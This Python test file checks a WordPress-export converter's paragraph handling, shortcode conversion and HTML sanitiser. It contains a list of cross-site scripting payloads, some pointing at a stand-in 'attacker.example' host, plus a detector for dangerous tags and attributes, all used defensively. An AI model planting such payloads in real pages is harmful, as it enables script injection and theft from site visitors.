"""WordPress's stored bodies become clean HTML: paragraphs back, shortcodes converted, nothing dangerous left."""

from urllib.parse import urlsplit

import lxml.html
from hypothesis import given
from hypothesis import strategies as st

from bayan.wxr.content import autop, convert_body
from bayan.wxr.sanitise import clean_html


def test_blank_lines_end_paragraphs_and_single_newlines_break_lines():
    assert autop("One\ntwo\n\nThree") == "<p>One<br>\ntwo</p>\n<p>Three</p>"


def test_preformatted_text_keeps_its_blank_lines():
    assert "<pre>a\n\nb</pre>" in autop("Intro\n\n<pre>a\n\nb</pre>")


def test_block_editor_comments_disappear():
    body = convert_body("<!-- wp:paragraph -->\n<p>Kept</p>\n<!-- /wp:paragraph -->").html
    assert body == "<p>Kept</p>"


def test_a_caption_becomes_a_figure():
    body = convert_body('[caption id="a1" width="300"]<img src="https://old.example.org/a.jpg" alt="Rami"> '
                        "Rami at the court[/caption]").html
    assert body == '<figure><img src="https://old.example.org/a.jpg" alt="Rami"> <figcaption>Rami at the court' \
                   "</figcaption></figure>"


def test_a_gallery_lists_its_images_from_the_attachments():
    body = convert_body('[gallery ids="7,8,9"]', {"7": "https://old.example.org/7.jpg", "8": "https://old.example.org/8.jpg"})
    assert body.html.count("<img") == 2


def test_unknown_shortcodes_stay_visible_and_are_named():
    conversion = convert_body('Before [contact-form-7 id="12"] after')
    assert "[contact-form-7 id=\"12\"]" in conversion.html.replace("&quot;", '"')
    assert conversion.unknown_shortcodes == ["contact-form-7"]


def test_a_bare_media_link_on_its_own_line_becomes_a_link():
    body = convert_body("Watch:\n\nhttps://www.youtube.com/watch?v=x1\n\nEnd").html
    assert '<a href="https://www.youtube.com/watch?v=x1" rel="noopener noreferrer">' in body


PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<iframe src="https://attacker.example/steal"></iframe>',
    "<style>body{display:none}</style>",
    '<svg onload="alert(1)"><circle/></svg>',
    '<form action="https://attacker.example"><input name=p></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
]


def dangerous(markup):
    """True if the markup, as a browser would parse it, could run script, restyle the page or load from elsewhere.

    Judged on the parsed tree, not the text: a link whose address merely reads
    "onerror=" is harmless, an ``onerror`` attribute is not.
    """
    if not markup.strip():
        return False
    for element in lxml.html.fragment_fromstring(markup, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ("script", "style", "form", "svg", "math", "object", "embed", "base", "meta", "link"):
            return True
        for name, value in element.attrib.items():
            address = "".join(value.split()).lower()
            if name.lower().startswith("on") or name.lower() in ("style", "formaction", "srcdoc"):
                return True
            if address.startswith(("javascript:", "vbscript:", "data:text/html")):
                return True
            # Loading from elsewhere means another host; a relative address that merely mentions one is text.
            if (urlsplit(address).hostname or "").endswith("attacker.example"):
                return True
    return False


def test_the_danger_check_itself_sees_danger():
    for markup in ('<img src=x onerror="alert(1)">', '<a href=" java\tscript:alert(1)">x</a>', "<script>1</script>",
                   '<p style="x">y</p>', '<img src="https://attacker.example/t.gif">'):
        assert dangerous(markup), markup
    assert not dangerous('<p><a href="&lt;img src=x onerror=">a</a> onerror= in text</p>')
    assert not dangerous('<a href="&lt;form action=&quot;https://attacker.example&quot;&gt;">a relative address</a>')


def test_the_payload_list_leaves_nothing_dangerous():
    for payload in PAYLOADS:
        assert not dangerous(clean_html(payload)), payload
        assert not dangerous(convert_body(payload).html), payload


def test_embeds_from_known_hosts_survive():
    markup = '<iframe src="https://www.youtube.com/embed/abc" title="Video"></iframe>'
    assert clean_html(markup) == markup


@given(st.lists(st.sampled_from(PAYLOADS + ["<p>", "</p>", "text", "[caption]", "[/caption]", "\n\n", "<a href=",
                                            '"', "'", ">", "<"]), max_size=20))
def test_no_mixture_of_payloads_gets_through(pieces):
    assert not dangerous(convert_body("".join(pieces)).html)


def test_a_refused_frame_is_removed_whole_even_when_left_open():
    assert clean_html('<p>Held \u202e<iframe src=//attacker.example> in Adra</p>') == "<p>Held \u202e</p>"
    assert clean_html('<p>a</p><iframe src="https://evil.example/"></iframe>') == "<p>a</p>"
